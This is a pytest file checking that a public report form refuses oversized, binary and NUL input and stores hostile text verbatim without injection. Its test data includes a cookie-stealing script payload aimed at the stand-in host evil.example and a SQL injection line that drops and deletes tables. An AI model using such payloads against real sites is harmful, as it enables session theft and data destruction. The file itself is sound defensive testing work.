"""Hostile input at the public page: huge, binary, markup and script, emoji, right-to-left,
SQL. Each is refused or stored exactly as text, without error or injection.

How long each takes is measured by ``benchmarks/public_reports.py`` (no timing here).
"""

from __future__ import annotations

import os
from collections.abc import Iterator

import pytest
from sqlalchemy import func, inspect, select

from countylines.public.form import MAX_BODY_BYTES, MAX_TOTAL_CHARS
from countylines.public.models import PublicReport
from countylines.security.models import AuditEvent
from countylines.workspace import Workspace
from tests.public.support import public_client, reference_of, send, token_of

FORM = {"content-type": "application/x-www-form-urlencoded"}

HOSTILE = {
    "html-script": "<script>fetch('//evil.example/?'+document.cookie)</script><svg onload=alert(1)>",
    "sql": "x'); DROP TABLE public_reports; DELETE FROM audit_events; --",
    "sql-like": "100% _sure_ \\ % _",
    "emoji": "\U0001f9d2\U0001f3fd\U0001f45f\U0001f4a8 \U0001f468\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f",
    "right-to-left": "\u202e\u0645\u062e\u062f\u0631\u0627\u062a \u05e1\u05de\u05d9\u05dd\u202c abc",
    "control-ok": "tab\there\x1b[31m red \x07",
}


def _count(ws: Workspace) -> int:
    with ws.session() as s:
        return int(s.scalar(select(func.count()).select_from(PublicReport)) or 0)


def test_a_megabyte_is_refused_before_it_is_read(workspace: Workspace) -> None:
    client = public_client(workspace)
    token = token_of(client.get("/").text)
    big = b"what=" + b"A" * (1024 * 1024)
    response = client.post("/report", content=big, headers=FORM)
    assert response.status_code == 413
    assert "too large" in response.text
    assert "set-cookie" not in response.headers

    def chunks() -> Iterator[bytes]:  # no Content-Length: read until the limit, then refused
        yield f"token={token}&what=".encode()
        for _ in range(64):
            yield b"B" * 16384

    chunked = client.post("/report", content=chunks(), headers=FORM)
    assert chunked.status_code == 413
    just_over = client.post("/report", content=b"w" * (MAX_BODY_BYTES + 1), headers=FORM)
    assert just_over.status_code == 413
    assert _count(workspace) == 0


def test_binary_is_refused_with_a_reason(workspace: Workspace) -> None:
    client = public_client(workspace)
    token = token_of(client.get("/").text)
    random_bytes = bytes(range(256)) * 4 + os.urandom(1024)
    raw = client.post("/report", content=random_bytes, headers=FORM)
    assert raw.status_code == 400 and "did not arrive as text" in raw.text
    encoded = client.post(
        "/report",
        content=b"token="
        + token.encode()
        + b"&what="
        + b"".join(b"%%%02X" % b for b in random_bytes),
        headers=FORM,
    )
    assert encoded.status_code == 400
    nul = send(client, {"what": "abc\x00def"})
    assert nul.status_code == 400 and "NUL character at line 1, column 4" in nul.text
    png = client.post(
        "/report",
        content=b"\x89PNG\r\n\x1a\n" + random_bytes,
        headers={"content-type": "image/png"},
    )
    assert png.status_code == 415
    assert _count(workspace) == 0


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_text_is_stored_exactly(db_workspace: Workspace, name: str) -> None:
    text = HOSTILE[name]
    client = public_client(db_workspace)
    reference = reference_of(send(client, {"what": text, "people": text, "where": text}))
    with db_workspace.session() as s:
        row = s.scalar(select(PublicReport).where(PublicReport.reference == reference))
        assert row is not None
        assert (row.what, row.people, row.where_text) == (text.strip(), text.strip(), text.strip())
        assert s.scalar(select(func.count()).select_from(AuditEvent)) is not None
    tables = set(inspect(db_workspace.engine).get_table_names())
    assert {"public_reports", "audit_events", "intel_reports"} <= tables


def test_a_full_size_report_of_every_kind_of_hostile_text_is_accepted(workspace: Workspace) -> None:
    mixed = " ".join(HOSTILE.values()) + " 07700 900123 CO15 1AA AB12 CDE "
    text = (mixed * (MAX_TOTAL_CHARS // len(mixed) + 1))[:MAX_TOTAL_CHARS].strip()
    client = public_client(workspace)
    reference = reference_of(send(client, {"what": text}))
    with workspace.session() as s:
        row = s.scalar(select(PublicReport).where(PublicReport.reference == reference))
    assert row is not None and row.what == text
    assert {"phone", "postcode", "vrm"} <= {m["type"] for m in row.mentions}
    over = send(client, {"what": text + "xx"})
    assert over.status_code == 400 and "it can be up to 20,000" in over.text
